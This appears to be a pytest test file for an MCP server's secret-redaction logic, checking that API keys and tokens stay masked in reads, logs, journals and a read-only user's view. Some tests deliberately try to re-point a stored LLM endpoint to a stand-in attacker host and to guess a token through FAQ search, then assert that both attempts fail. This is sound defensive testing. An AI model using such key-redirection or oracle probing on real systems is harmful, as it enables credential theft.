def test_reordered_and_renamed_tools_keep_each_secret_with_its_tool() -> None:
    current = {"custom_tools": [tool("crm", headers=[{"key": "X-Api-Key", "value": SECRET}]),
                                tool("erp", headers=[{"key": "X-Api-Key", "value": SECRET[::-1]}])]}  # fmt: skip
    candidate = {"custom_tools": [tool("erp", headers=[{"key": "X-Api-Key", "value": mask_text_value(SECRET[::-1])}]),
                                  tool("crm", headers=[{"key": "X-Api-Key", "value": "…cdef"}]),
                                  tool("crm2", headers=[{"key": "X-Api-Key", "value": "…cdef"}])]}  # fmt: skip
    left = restore_secrets(candidate, current)
    tools = candidate["custom_tools"]
    assert tools[0]["headers"][0]["value"] == SECRET[::-1] and tools[1]["headers"][0]["value"] == SECRET
    assert tools[2]["headers"][0]["value"] == "…cdef" and len(left) == 1


def mask_text_value(secret: str) -> str:
    from revox_mcp.redaction import mask

    return mask(secret)


def test_a_mask_sent_with_its_scheme_is_restored_or_reported() -> None:
    current = {"custom_tools": [tool(headers=[{"key": "Authorization", "value": f"Bearer {SECRET}"}])]}
    candidate = {"custom_tools": [tool(headers=[{"key": "Authorization", "value": "Bearer …cdef"}])]}
    left = restore_secrets(candidate, current)
    assert candidate["custom_tools"][0]["headers"][0]["value"] == f"Bearer {SECRET}" or left


async def test_extra_fields_round_trip_keeps_their_secrets(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"hubspot": {"access_token": SECRET, "portal": "eu-1", "auth": {"user": "ops"}}})
    async with client(settings, extra_fields="hubspot") as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["hubspot"]})
        shown = read.structured_content["assistant"]["hubspot"]  # type: ignore[index]
        assert SECRET not in everything(read)
        patch = {"hubspot": {**shown, "portal": "eu-2"}}
        # The sandbox refuses fields it does not know on a PATCH: a dry run shows what would be sent.
        result = await c.call_tool("update_assistant", {"id": SALES, "patch": patch, "dry_run": True})
    assert not result.is_error and "shape of a masked secret" not in text_of(result), text_of(result)
    assert SECRET not in everything(result)
    changes = result.structured_content["changes"]  # type: ignore[index]
    assert [c["path"] for c in changes] == ["hubspot.portal"], changes


# --- A read-only person (HTTP tokens file) ----------------------------------------------------------------------


async def test_a_read_only_person_learns_no_secret(sandbox: SandboxServer, tmp_path: Any) -> None:
    from bench.load import connect
    from revox_mcp.actors import Actor
    from revox_mcp.http_transport import MCP_PATH, HttpOptions, build_http_app
    from revox_mcp.serving import AppServer
    from tests.conftest import fast_settings

    alice, auditor = "alice-token-0123456789abcdef0123456789", "auditor-token-0123456789abcdef012345678"
    new = "sk-live-NEWKEY-0123456789wxyz"
    prompt = "Be kind. " * 50 + f"Book at https://book.example/s?access_token={SECRET} now."
    sandbox.store.update(SALES, {"prompt": prompt})
    settings = fast_settings(sandbox, journal_path=tmp_path / "journal.db")
    actors = (Actor("alice", alice), Actor("auditor", auditor, read_only=True))
    server = AppServer()
    server.app = build_http_app(
        settings, Policy(), HttpOptions(token=None, port=server.port, actors=actors), server.port
    )
    server.start()
    try:
        async with connect(server.url + MCP_PATH, alice) as writer:
            llm = {"type": "custom", "api_url": "https://llm.example/v1", "api_key": new, "model_name": "m"}
            await writer.call_tool(
                "update_assistant", {"id": SALES, "patch": {"llm_model": llm}, "reason": f"key {new}"}
            )
        async with connect(server.url + MCP_PATH, auditor) as reader:
            whole = await reader.call_tool("get_assistant", {"id": SALES})
            page = await reader.call_tool(
                "get_assistant", {"id": SALES, "fields": ["prompt"], "offset": prompt.index(SECRET), "limit": 40}
            )
            listed = await reader.call_tool("list_changes", {})
    finally:
        server.stop()
    assert SECRET not in everything(whole) and new not in everything(whole)
    seen = everything(page) + everything(listed)
    assert SECRET not in seen and new not in seen


async def test_faq_query_is_no_oracle_for_a_stored_token(sandbox: SandboxServer, settings: Settings) -> None:
    faq = [{"question": "Where do I reset?", "answer": f"At https://portal.example/reset?token={SECRET} today."}]
    sandbox.store.update(SALES, {"faq_items": faq})
    async with client(settings) as c:

        async def hits(query: str) -> int:
            page = await c.call_tool("get_assistant", {"id": SALES, "fields": ["faq_items"], "faq_query": query})
            return page.structured_content["pages"][0]["total"]  # type: ignore[index]

        right, wrong = await hits(f"token={SECRET[:12]}"), await hits(f"token={SECRET[:11]}X")
    # A search must not tell a right guess of the secret from a wrong one (it reads what get_assistant shows).
    assert right == wrong, (right, wrong)


@pytest.mark.parametrize("scheme", ["ApiKey", "SSWS", "Bot", "Zoho-oauthtoken", "Klaviyo-API-Key", "Key"])
@pytest.mark.parametrize("header", ["Authorization", "Proxy-Authorization"])
def test_the_credential_after_any_authorization_scheme_is_masked(header: str, scheme: str) -> None:
    assert SECRET not in mask_text(f"POST /v1/leads\n{header}: {scheme} {SECRET}\n\n{{{{lead}}}}")


async def test_a_prompt_opening_with_a_header_line_is_journalled_masked(
    sandbox: SandboxServer, journal_on: dict[str, Any]
) -> None:
    from tests.conftest import fast_settings

    sandbox.store.update(SALES, {"prompt": f"X-Api-Key: {SECRET}\nUse it for the CRM."})
    async with client(fast_settings(sandbox, **journal_on)) as c:
        edit = {"op": "replace_text", "field": "prompt", "find": "for the CRM.", "replace": "for the CRM only."}
        result = await c.call_tool("update_assistant", {"id": SALES, "edits": [edit]})
        assert not result.is_error, text_of(result)
        listed = await c.call_tool("list_changes", {"change_id": result.structured_content["change_id"]})  # type: ignore[index]
    assert SECRET not in everything(result) and SECRET not in everything(listed)
    assert SECRET not in journal_rows(journal_on)


@pytest.mark.parametrize("name", ["X-Authentication", "Authentication"])
def test_an_authentication_header_is_a_secret(name: str) -> None:
    assert credential_item(name)


def test_an_email_signature_setting_is_not_masked_and_survives_an_append() -> None:
    current = {"email": {"email_signature": "Best regards, the ACME Solar team"}}
    shown = redact(current)
    candidate = {"email": {"email_signature": shown["email"]["email_signature"] + "\nwww.acme.example"}}
    left = restore_secrets(candidate, current)
    assert shown == current or left, (shown, candidate)


# --- Items sharing an identity key ------------------------------------------------------------------------------


async def test_a_read_written_back_with_duplicate_questions_keeps_both_tokens(
    sandbox: SandboxServer, settings: Settings
) -> None:
    second = "tok-live-9999999999999999wxyz"
    faq = [{"question": "How do I reset?", "answer": f"Use https://a.example/r?token={SECRET} first."},
           {"question": "How do I reset?", "answer": f"Or https://b.example/r?token={second} then."}]  # fmt: skip
    sandbox.store.update(SALES, {"faq_items": faq})
    async with client(settings) as c:
        read = await c.call_tool("get_assistant", {"id": SALES, "fields": ["faq_items"]})
        shown = read.structured_content["assistant"]["faq_items"]  # type: ignore[index]
        items = [{"question": i["question"], "answer": i["answer"]} for i in shown]
        result = await c.call_tool("update_assistant", {"id": SALES, "patch": {"faq_items": items}})
    assert not result.is_error, text_of(result)
    assert [i["answer"] for i in stored(sandbox, SALES)["faq_items"]] == [i["answer"] for i in faq], text_of(result)


def test_two_entries_with_the_same_key_keep_their_secrets() -> None:
    current = {
        "hubspot": {"headers": [{"key": "X-Api-Key", "value": SECRET}, {"key": "X-Api-Key", "value": SECRET[::-1]}]}
    }
    candidate = redact(current)
    assert restore_secrets(candidate, current) == [] and candidate == current


# --- A secret an agent sends, in every channel ------------------------------------------------------------------


async def test_a_sent_header_line_prompt_is_masked_everywhere(
    sandbox: SandboxServer, journal_on: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    import logging

    from tests.conftest import fast_settings

    new = "NEWSECRET-0123456789wxyz"
    notes: list[Any] = []

    async def inbox(params: Any) -> None:
        notes.append(params)

    server = build_server(fast_settings(sandbox, **journal_on))
    with caplog.at_level(logging.DEBUG, logger="revox_mcp"):
        async with Client(server, logging_callback=inbox, log_level="debug") as c:  # type: ignore[arg-type]
            patch = {"prompt": f"X-Api-Key: {new}\nUse it for the CRM."}
            result = await c.call_tool("update_assistant", {"id": SALES, "patch": patch})
    assert not result.is_error, text_of(result)
    seen = {"answer": everything(result), "log notifications": repr(notes), "log": caplog.text,
            "journal": journal_rows(journal_on)}  # fmt: skip
    assert [where for where, text in seen.items() if new in text] == []


async def test_a_sent_secret_in_the_reason_is_not_logged(
    sandbox: SandboxServer, settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    import logging

    new = "sk-live-NEWKEY-0123456789wxyz"
    llm = {"type": "custom", "api_url": "https://llm.example/v1", "api_key": new, "model_name": "m"}
    with caplog.at_level(logging.DEBUG, logger="revox_mcp"):
        async with client(settings) as c:
            args = {"id": SALES, "patch": {"llm_model": llm}, "reason": f"rotate to {new}"}
            result = await c.call_tool("update_assistant", args)
    assert not result.is_error and new not in everything(result), text_of(result)
    assert new not in caplog.text


def _llm(url: str, key: str) -> dict[str, Any]:
    return {"type": "custom", "api_url": url, "api_key": key, "model_name": "m"}


async def test_denying_the_llm_key_denies_moving_it(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"llm_model": _llm("https://llm.good.example/v1", SECRET)})
    async with client(settings, deny="llm_model.api_key") as c:
        merged = await c.call_tool("update_assistant", {"id": SALES, "patch": {"llm_model": {"api_url": f"{EVIL}/v1"}}})
        masked = await c.call_tool(
            "update_assistant", {"id": SALES, "patch": {"llm_model": _llm(f"{EVIL}/v1", "…cdef")}}
        )
    for result in (merged, masked):
        assert result.is_error and "operator policy" in text_of(result), text_of(result)
    assert stored(sandbox, SALES)["llm_model"]["api_url"] == "https://llm.good.example/v1"


async def test_re_pointing_the_llm_url_does_not_keep_the_key(sandbox: SandboxServer, settings: Settings) -> None:
    sandbox.store.update(SALES, {"llm_model": _llm("https://llm.good.example/v1", SECRET)})
    async with client(settings) as c:
        await c.call_tool("update_assistant", {"id": SALES, "patch": {"llm_model": {"api_url": f"{EVIL}/v1"}}})
    after = stored(sandbox, SALES)["llm_model"]
    assert not (after["api_url"].startswith(EVIL) and after["api_key"] == SECRET)
